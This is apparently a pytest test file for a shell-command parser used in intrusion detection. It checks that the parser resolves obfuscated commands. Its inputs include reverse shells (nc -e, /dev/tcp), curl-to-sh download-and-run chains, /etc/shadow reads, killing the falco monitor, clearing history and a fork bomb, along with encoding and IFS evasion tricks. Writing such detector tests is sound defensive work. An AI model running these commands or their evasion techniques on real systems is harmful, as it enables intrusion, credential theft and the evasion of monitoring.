"""What the commands in shell text are."""

from __future__ import annotations

import base64
import gzip

import pytest

from detectors.commands import Command, Redirection, read, sources
from events import Process


def shell(text: str) -> tuple[Command, ...]:
    return read(Process(binary="/bin/sh", argv=("sh", "-c", text)))


def called(text: str) -> list[str]:
    return [" ".join([command.name, *command.arguments]) for command in shell(text)]


ENCODED = base64.b64encode(b"nc -e /bin/sh 192.0.2.1 80").decode()
ZIPPED = base64.b64encode(gzip.compress(b"id -u", mtime=0)).decode()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("id; uname -a && w || who & ps | wc", ["id", "uname -a", "w", "who", "ps", "wc"]),
        ("(cd /tmp; ls) ; { id; }", ["cd /tmp", "ls", "id"]),
        ("if [ -f x ]; then id; elif w; then ps; else who; fi", ["[ -f x ]", "id", "w", "ps", "who"]),
        ("while true; do nc h 1; done; until w; do ps; done", ["true", "nc h 1", "w", "ps"]),
        ("for a in mips arm; do wget h/$a; done", ["wget h/mips", "wget h/arm"]),
        ("for i in {1..2}; do x $i; done", ["x 1", "x 2"]),
        ("case $1 in (a|b) id;; *) w; esac", ["id", "w"]),
        ("f() { nc -e $1 $2; }; f sh h", ["nc -e sh h"]),
        ("function f { id; }\nf; g() { w; }", ["id", "w"]),
        (":(){ :|:& };:", [":", ":"]),
        ("! id; time -p w", ["id", "w"]),
        ("[[ -f x && ! -d y ]] && id", ["[[ -f x & & ! -d y ]]", "id"]),
        ("id # ; nmap\nw", ["id", "w"]),
        ("cat <<EOF\n$(id)\nEOF\nw", ["id", "cat", "w"]),
        ("cat <<'EOF' | sh\nid\nEOF\nw", ["cat", "sh", "id", "w"]),
        ("sh <<-E\n\tid\n\tE\nw", ["sh", "id", "w"]),
        ("bash <<< 'id; w'", ["bash", "id", "w"]),
        ("echo id > /tmp/x; echo w >> /tmp/x; sh /tmp/x", ["echo id", "echo w", "sh /tmp/x", "id", "w"]),
        (
            "echo '#!/usr/bin/python3' > x; ./x; echo id > ./y; ./y",
            ["echo #!/usr/bin/python3", "x", "echo id", "y", "id"],
        ),
        ("echo id > x; curl h > x; sh x", ["echo id", "curl h", "sh x"]),
        ("trap 'rm x' EXIT; id", ["trap rm x EXIT", "rm x", "id"]),
        ("() { :;}; echo x", [":", "echo x"]),
    ],
)
def test_lists_and_compound_commands(text: str, expected: list[str]) -> None:
    assert called(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("\\n\\m\\a\\p", "nmap"),
        ("n'm'a\"p\"", "nmap"),
        ("$'\\x6e\\155ap'", "nmap"),
        ("nm''ap -sV\\\n -p1", "nmap -sV -p1"),
        ("cat${IFS}/etc/shadow", "cat /etc/shadow"),
        ("cat$IFS$9/etc/shadow", "cat /etc/shadow"),
        ("cat${IFS%??}/etc/shadow", "cat /etc/shadow"),
        ("{cat,/etc/shadow}", "cat /etc/shadow"),
        ("a=nm;b=ap;$a$b", "nmap"),
        ("IFS=,;a=nmap,-sV;$a", "nmap -sV"),
        ("a=(n map);${a[0]}${a[1]}", "nmap"),
        ("set -- nmap -sV; $@", "nmap -sV"),
        ("a=pamn; $(echo $a | rev)", "nmap"),
        ("$(echo azNc | tr a-zA-Z n-za-mN-ZA-M)", "nmAp"),
        ("cat ${PATH:0:1}etc${HOME:0:1}shadow", "cat /etc/shadow"),
        ("x=xmrig.sh; ./${x%.sh} ${x#*.} ${x/rig/} ${x:0:2} ${#x}", "xmrig sh xm.sh xm 8"),
        ("b=nmap a=b; ${!a}", "nmap"),
        ("export X=nmap; sh -c '$X -sV'", "nmap -sV"),
        ("X=nmap sh -c '$X'", "nmap"),
        ("sh -c '$0 $1' nmap -sV", "nmap -sV"),
        ("eval \"eval 'sh -c nmap'\"", "nmap"),
        ("`echo nmap`", "nmap"),
        ("$(printf '\\156%s' map)", "nmap"),
        (f"eval $(echo {ENCODED} | base64 -d)", "nc -e /bin/sh 192.0.2.1 80"),
        (f'sh -c "$(base64 -d <<< {ENCODED})"', "nc -e /bin/sh 192.0.2.1 80"),
        (f"bash <(echo {ENCODED} | openssl enc -d -a)", "nc -e /bin/sh 192.0.2.1 80"),
        (f"echo {ZIPPED} | base64 -D | gunzip -c | sudo bash -s", "id -u"),
        ("echo 6e6d6170 | xxd -r -p | sh", "nmap"),
        ("printf nmap | base64 | cat; printf nm''ap | sh -", "nmap"),
        ("source /dev/stdin <<< nmap", "nmap"),
    ],
)
def test_hidden_words_are_resolved(text: str, expected: str) -> None:
    last = shell(text)[-1]
    assert " ".join([last.name, *last.arguments]) == expected
    assert not last.unknown


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("$X", ""),
        ("$X/bin/java -jar a", "java"),
        ("c${u}url http://h", "curl"),
        ("$(curl http://h)", ""),
        ("/bin/c?t x", "c?t"),
        ("cat $X", "cat"),
        ("if w; then a=xmrig; else a=ls; fi; $a", "ls"),
        ("read x; $x", ""),
        ("nmap 'unclosed", "nmap"),
        ("nmap ${x:-y}", "nmap"),
        ("a{1..99} nmap", "a{1..99}"),
        ("find / -exec rm {} +", "rm"),
        ("curl h | xargs rm", "rm"),
        ("echo $((1+1))", "echo"),
    ],
)
def test_what_cannot_be_known_is_unknown(text: str, name: str) -> None:
    last = shell(text)[-1]
    assert (last.name, last.unknown) == (name, True)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("curl h | sh", ["curl"]),
        ("curl h | base64 -d | sudo sh", ["base64", "curl"]),
        ("(curl h; echo) | sh", ["curl"]),
        ("bash <(curl h)", ["curl"]),
        ("bash < <(curl h)", ["curl"]),
        ('sh -c "$(curl h)"', ["curl"]),
        ('x=$(curl h); eval "$x"', ["curl"]),
        ('x=`curl h`; echo "$x" | sh', ["echo", "curl"]),
        ("curl h | while read l; do $l; done", ["curl"]),
        ("for x in $(curl h); do $x; done", ["curl"]),
        ("kill -9 $(pidof falco)", ["pidof"]),
        ("curl h; sh", []),
        ("curl h | sh < x", []),
        ("curl h > x | sh <<< id", []),
    ],
)
def test_what_feeds_a_command(text: str, expected: list[str]) -> None:
    commands = [command for command in shell(text) if "sh" not in command.wrappers]
    assert [source.name for source in sources(commands, commands[-1])] == expected


def test_redirections_say_where_input_and_output_go() -> None:
    (command,) = shell("bash -i >& /dev/tcp/192.0.2.1/80 0>&1 2>>$X")
    assert command.redirections == (
        Redirection(">&", "/dev/tcp/192.0.2.1/80"),
        Redirection(">&", "1", 0),
        Redirection(">>", "$X", 2),
    )
    assert command.unknown


def test_redirections_of_a_block_hold_for_what_is_in_it() -> None:
    commands = shell("{ id; w 2>x; } > /dev/tcp/h/1")
    assert [[r.target for r in command.redirections] for command in commands] == [
        ["/dev/tcp/h/1"],
        ["/dev/tcp/h/1", "x"],
    ]


@pytest.mark.parametrize("text", ["> ~/.bash_history", "HISTSIZE=0", ">x y=1"])
def test_without_a_program_there_is_a_command_without_a_name(text: str) -> None:
    (command,) = shell(text)
    assert (command.name, command.unknown) == ("", False)
    assert command.redirections or command.assignments


def test_background_assignments_and_input_are_told() -> None:
    first, second, third = shell("A=1 B=$X x & echo root:y | chpasswd")
    assert first.assignments == (("A", "1"), ("B", "$X"))
    assert (first.background, first.unknown, second.background) == (True, True, False)
    assert (third.stdin, third.input) == ("root:y\n", 1)
